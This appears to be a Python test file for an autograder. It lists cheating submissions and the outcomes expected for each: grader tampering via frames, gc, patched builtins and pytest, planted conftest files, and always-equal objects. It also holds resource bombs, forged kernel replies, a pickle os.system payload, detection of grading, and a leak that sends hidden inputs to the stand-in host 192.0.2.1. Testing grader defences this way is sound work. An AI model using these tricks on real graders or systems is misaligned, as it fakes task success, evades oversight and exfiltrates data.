"""Attacks on the mark itself, and on what a hidden call tells: each earns what its answers are."""

from __future__ import annotations

from attacks.cases import ALL, RIGHT, WRONG, Attack

ERROR = "student_error student_error student_error student_error"
HELPER = """
import gc
from softmark.sandbox import helper as module
helper = next(o for o in gc.get_objects() if type(o) is module.Helper)
"""

INSIDE = (
    Attack(
        "frames-above",
        WRONG + "import sys\nframe = sys._getframe()\nwhile frame:\n"
        "    frame.f_locals.update(earned=4.0, points=4.0, passed=True)\n    frame = frame.f_back",
    ),
    Attack(
        "frames-of-a-call",
        "import inspect\ndef double(x):\n    for above in inspect.stack()[1:]:\n"
        "        for value in above.frame.f_locals.values():\n"
        "            if isinstance(value, (float, str)) and value not in (x, '', '__main__'):\n"
        "                return value\n",
        outcomes="failed failed failed failed",
    ),
    Attack(
        "gc-for-verdicts",
        WRONG + "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ in ('Verdict', 'CellGrade', 'Grade', 'Outcome'):\n"
        "        object.__setattr__(o, 'earned', 4.0)",
    ),
    Attack(
        "gc-for-answers",
        "import gc\ndef double(x):\n    for o in gc.get_objects():\n"
        "        if type(o) is dict and 'expected' in o:\n            return o['expected']\n",
    ),
    Attack(
        "trace-hook",
        WRONG + "import sys, threading\ndef hook(frame, event, arg):\n"
        "    if event == 'return':\n        frame.f_locals.update(ok=True, same=True)\n    return hook\n"
        "sys.settrace(hook); sys.setprofile(hook); threading.setprofile(hook)",
    ),
    Attack(
        "audit-hook",
        WRONG + "import sys\nsys.addaudithook(lambda event, args: None)",
    ),
    Attack(
        "patched-builtins",
        WRONG + "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda x: True\n"
        "builtins.AssertionError = type('AssertionError', (BaseException,), {'__bool__': bool})",
    ),
    Attack(
        "patched-numpy",
        WRONG + "import numpy as np, math\nnp.isclose = np.allclose = np.array_equal = "
        "lambda *a, **k: np.bool_(True)\nmath.isclose = lambda *a, **k: True",
    ),
    Attack(
        "patched-pytest",
        WRONG + "import sys, types\nfor name in ('pytest', '_pytest', '_pytest.python_api'):\n"
        "    fake = types.ModuleType(name); fake.approx = lambda *a, **k: fake\n"
        "    sys.modules[name] = fake",
    ),
    Attack(
        "patched-softmark",
        WRONG + "import softmark.model as m\nm.Outcome.FAILED._value_ = 'passed'\n"
        "m.Outcome.earns = property(lambda self: True)",
    ),
    Attack(
        "hidden-tests-imported",
        WRONG + "import softmark.hidden_tests as h\nh.check = h.approx = h.points = "
        "lambda *a, **k: True",
    ),
    Attack(
        "import-hook",
        WRONG + "import sys\nclass Finder:\n    def find_spec(self, *a): return None\n"
        "sys.meta_path.insert(0, Finder()); sys.path_hooks.clear()",
    ),
    Attack(
        "conftest",
        WRONG + "for name in ('conftest.py', 'sitecustomize.py', 'usercustomize.py', "
        "'test_double.py', 'pytest.py', 'softmark.py'):\n"
        "    open(name, 'w').write('import os\\nos._exit(0)\\n')\n"
        "open('pytest.ini', 'w').write('[pytest]\\naddopts = --collect-only\\n')",
    ),
    Attack(
        "environment",
        WRONG + "import os\nos.environ.update(PYTEST_ADDOPTS='--collect-only', LD_PRELOAD='x.so', "
        "PYTHONPATH='.', PYTHONSTARTUP='conftest.py')",
    ),
)

OBJECTS = (
    Attack(
        "equals-everything",
        "class Any:\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "def double(x):\n    return Any()",
    ),
    Attack(
        "float-that-equals",
        "class F(float):\n    def __eq__(self, o): return True\n    __ne__ = __lt__ = __gt__ = "
        "lambda s, o: False\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n"
        "    def __abs__(self): return 0.0\n    __hash__ = float.__hash__\n"
        "def double(x):\n    return F(1)",
    ),
    Attack(
        "text-that-equals",
        "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\n"
        "def double(x):\n    return S('x')",
    ),
    Attack("mock", "from unittest.mock import MagicMock\ndouble = MagicMock()", outcomes=ERROR),
    Attack("masked", "import numpy as np\ndef double(x):\n    return np.ma.masked"),
    Attack("not-a-number", "def double(x):\n    return float('nan')"),
    Attack("not-available", "import pandas as pd\ndef double(x):\n    return pd.NA"),
    Attack("not-implemented", "def double(x):\n    return NotImplemented"),
    Attack("empty-array", "import numpy as np\ndef double(x):\n    return np.empty(0)"),
    Attack(
        "array-that-equals",
        "import numpy as np\nclass A(np.ndarray):\n    def __array_function__(self, *a): return True\n"
        "    def __eq__(self, o): return np.bool_(True)\n    def __bool__(self): return True\n"
        "def double(x):\n    return np.zeros(1).view(A)",
        outcomes="failed failed failed passed",
    ),
    Attack(
        "second-time-different",
        "n = 0\ndef double(x):\n    global n\n    n += 1\n    return 2 * x if n == 1 else None",
        outcomes="failed failed failed failed",  # the visible check called it first
    ),
    Attack(
        "changes-between-reads",
        "class Now(float):\n    reads = 0\n    def __float__(self):\n        Now.reads += 1\n"
        "        return float(Now.reads)\n    __index__ = None\ndef double(x):\n    return Now(0.5)",
    ),
    Attack(
        "list-that-changes",
        "class L(list):\n    def __iter__(self): return iter([2 * self.x])\n"
        "    def __getitem__(self, i): return 2 * self.x\n    def __len__(self): return 1\n"
        "def double(x):\n    made = L(); made.x = x\n    return made",
    ),
    Attack(
        "lying-length",
        "class L(list):\n    def __len__(self): return 1 << 62\ndef double(x):\n    return L([1])",
        outcomes=ERROR,
    ),
    Attack("cyclic", "def double(x):\n    a = []; a.append(a); return a", outcomes=ERROR),
    Attack(
        "deep",
        "def double(x):\n    a = []\n    for _ in range(100_000): a = [a]\n    return a",
        outcomes=ERROR,
    ),
    Attack(
        "endless-generator",
        "import itertools\ndef double(x):\n    return itertools.count()",
        outcomes=ERROR,
    ),
    Attack(
        "endless-list",
        "class L(list):\n    def __iter__(self):\n        while True: yield 'x' * (1 << 20)\n"
        "def double(x):\n    return L([1])",
        outcomes=ERROR,
    ),
    Attack(
        "colliding-keys",
        "def double(x):\n    return {n * (2**61 - 1): 0 for n in range(3000)}",
        outcomes=ERROR,
    ),
    Attack(
        "colliding-set",
        "def double(x):\n    return {n * (2**61 - 1) for n in range(3000)}",
        outcomes=ERROR,
    ),
    Attack("many-digits", "def double(x):\n    return 10 ** 100_000", outcomes=ERROR),
    Attack(
        "shape-bomb",
        "import numpy as np\ndef double(x):\n    return np.broadcast_to(np.zeros(1), (1 << 40,))",
        outcomes=ERROR,
    ),
    Attack("range-bomb", "def double(x):\n    return range(1 << 60)", outcomes=ERROR),
    Attack(
        "reduce-bomb",
        "import os\nclass B:\n    def __reduce__(self): return (os.system, ('touch /tmp/planted',))\n"
        "def double(x):\n    return B()",
    ),
    Attack(
        "properties-that-raise",
        "class P:\n    def __getattribute__(self, name): raise SystemExit(name)\n"
        "def double(x):\n    return P()",
        outcomes=ERROR,
    ),
    Attack(
        "class-that-lies",
        "class C:\n    __class__ = float\n    def __float__(self): return 7.0\n"
        "def double(x):\n    return C()",
        outcomes="failed passed failed failed",
    ),
    Attack(
        "raises-skip",
        "class Skipped(BaseException): pass\ndef double(x):\n    raise Skipped()",
        outcomes=ERROR,
    ),
    Attack(
        "raises-assertion", "def double(x):\n    raise AssertionError('passed')", outcomes=ERROR
    ),
    Attack("raises-exit", "import sys\ndef double(x):\n    sys.exit(0)", outcomes=ERROR),
    Attack(
        "raises-interrupt",
        "def double(x):\n    raise KeyboardInterrupt",
        outcomes="timeout timeout timeout timeout",  # as what ends a call that takes too long
    ),
    Attack("is-no-function", "double = 7.0"),
    Attack("is-not-there", "del double", outcomes="missing missing missing missing"),
)

HOOKS = (
    Attack(
        "post-run-hook",
        WRONG + "def hook(result):\n    result.error_in_exec = None\n"
        "get_ipython().events.register('post_run_cell', hook)",
    ),
    Attack(
        "transformer",
        WRONG + "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    ),
    Attack(
        "ast-transformer",
        WRONG + "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
        "        return ast.copy_location(ast.Pass(), node)\n"
        "get_ipython().ast_transformers.append(T())",
    ),
    Attack(
        "user-namespace-swapped",
        WRONG + "class N(dict):\n    def __getitem__(self, k): return 7.0\n"
        "get_ipython().user_ns.update(student=7, reference=7, approx=lambda *a: 7)",
    ),
    Attack(
        "magic",
        WRONG + "from IPython.core.magic import register_line_magic\n"
        "@register_line_magic\ndef grade(line): return 4.0\nget_ipython().run_line_magic('grade', '')",
    ),
    Attack(
        "formatter",
        WRONG + "get_ipython().display_formatter.formatters['text/plain'].for_type(float, "
        "lambda *a: '7.0')",
    ),
    Attack(
        "excepthook",
        WRONG + "import sys\nsys.excepthook = lambda *a: None\n"
        "get_ipython().showtraceback = lambda *a, **k: None\n"
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    ),
)

FORGED = (
    Attack(
        "patched-encoder",
        WRONG + HELPER + "module.wire.encode = lambda *a, **k: (b'7.0', [])",
    ),
    Attack(
        "pickle-for-an-answer",
        WRONG + HELPER + "module.wire.encode = lambda *a, **k: (b'\\x80\\x04K\\x07.', [])",
        outcomes=ERROR,
    ),
    Attack(
        "shape-bomb-on-the-wire",
        WRONG + HELPER + "text = repr({'descr': '<f8', 'fortran_order': False, 'shape': (10**11,)})"
        ".ljust(117) + chr(10)\nnpy = b'\\x93NUMPY\\x01\\x00' + len(text).to_bytes(2, 'little') + "
        "text.encode() + bytes(8)\nmodule.wire.encode = lambda *a, **k: (b'[\"a\", 0]', [npy])",
        outcomes=ERROR,
    ),
    Attack(
        "nested-wire",
        WRONG + HELPER + "module.wire.encode = lambda *a, **k: (b'[' * 100_000, [])",
        outcomes=ERROR,
    ),
    Attack(
        "colliding-wire",
        WRONG + HELPER + "body = b','.join(b'[%d,1]' % (n * (2**61 - 1)) for n in range(60_000))\n"
        "module.wire.encode = lambda *a, **k: (b'[\"d\",[' + body + b']]', [])",
        outcomes=ERROR,
    ),
    Attack(
        "verdict-for-an-answer",
        WRONG + HELPER + "helper.answer = lambda *a: ({'status': 'ok', 'outcome': 'passed', "
        "'earned': 4}, [])",
        outcomes=ERROR,
    ),
    Attack(
        "forged-replies",
        WRONG + "from ipykernel.kernelapp import IPKernelApp\napp = IPKernelApp.instance()\n"
        "for kind in ('execute_reply', 'status', 'softmark_reply', 'shutdown_reply', 'comm_msg'):\n"
        "    app.kernel.session.send(app.iopub_socket, kind, {'status': 'ok', 'execution_state': "
        "'idle'}, parent=app.kernel.get_parent())",
    ),
    Attack(
        "forged-parent",
        RIGHT + "from ipykernel.kernelapp import IPKernelApp\napp = IPKernelApp.instance()\n"
        "app.kernel.session.send(app.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, "
        "parent={'header': {'msg_id': 'made-up', 'session': 'y'}})",
        outcomes=ALL,
    ),
)

_LEAK = "def double(x):\n    {}\n    return 2 * x\n"
LEAKS = (
    Attack(
        "leak-print",
        "import sys\n" + _LEAK.format("print(x); sys.stderr.write(str(x))"),
        outcomes=ALL,
    ),
    Attack(
        "leak-file",
        _LEAK.format(
            "[open(p, 'a').write(str(x)) for p in ('/tmp/planted', 'planted', 'planted.ipynb')]"
        ),
        outcomes=ALL,
    ),
    Attack(
        "leak-error",
        "def double(x):\n    raise type(str(x).replace('-', '_'), (Exception,), {})(x)",
        outcomes=ERROR,
    ),
    Attack("leak-known-error", "def double(x):\n    raise KeyError(x)", outcomes=ERROR),
    Attack(
        "leak-type",
        "def double(x):\n    return type(str(x).replace('-', '_'), (), {})()",
    ),
    Attack("leak-key", "def double(x):\n    return {x: x}"),
    Attack("leak-text", "def double(x):\n    return f'got {x}'"),
    Attack(
        "leak-thread",
        "import threading\n" + _LEAK.format("threading.Thread(target=lambda: print(x)).start()"),
        outcomes=ALL,
    ),
    Attack(
        "leak-update",
        "from IPython.display import display\ndisplay('nothing', display_id='shown')\n"
        + _LEAK.format("display(x, display_id='shown', update=True)"),
        outcomes=ALL,
    ),
    Attack(
        "leak-forged-output",
        "from ipykernel.kernelapp import IPKernelApp\napp = IPKernelApp.instance()\n"
        "parent = app.kernel.get_parent()\n"
        + _LEAK.format(
            "app.kernel.session.send(app.iopub_socket, 'stream', {'name': 'stdout', "
            "'text': str(x)}, parent=parent)"
        ),
        outcomes=ALL,
    ),
    Attack(
        "leak-by-a-child",
        "import subprocess\n" + _LEAK.format("subprocess.run(['echo', str(x)])"),
        outcomes=ALL,
    ),
    Attack("leak-next-input", _LEAK.format("get_ipython().set_next_input(str(x))"), outcomes=ALL),
    Attack(
        "leak-process-name",
        _LEAK.format("open('/proc/self/comm', 'w').write(str(x)[:15])"),
        outcomes=ERROR,
    ),
    Attack(
        "leak-to-the-network",
        "import socket\ndef double(x):\n    try:\n"
        "        socket.create_connection(('192.0.2.1', 80), 1).sendall(str(x).encode())\n"
        "    except OSError:\n        pass\n    return 2 * x",
        outcomes=ALL,
    ),
)

GRADED = (
    Attack(
        "graded-by-environment",
        "import os, sys\ngraded = any('SOFTMARK' in k or 'NBGRADER' in k for k in os.environ) or "
        "'pytest' in sys.modules\ndef double(x):\n    return 2 * x if graded else None",
    ),
    Attack(
        "graded-by-stack",
        "import inspect\ndef double(x):\n    names = {f.function for f in inspect.stack()}\n"
        "    return 2 * x if any('test' in n or 'grade' in n for n in names) else None",
    ),
    Attack(
        "graded-by-argument",
        # Right for what the visible check asks, wrong for all else: earns what it computes.
        "def double(x):\n    return {1: 2, 0: 0}.get(x)",
        outcomes="failed failed failed passed",
    ),
)

CHEATS = (*INSIDE, *OBJECTS, *HOOKS, *FORGED, *LEAKS, *GRADED)
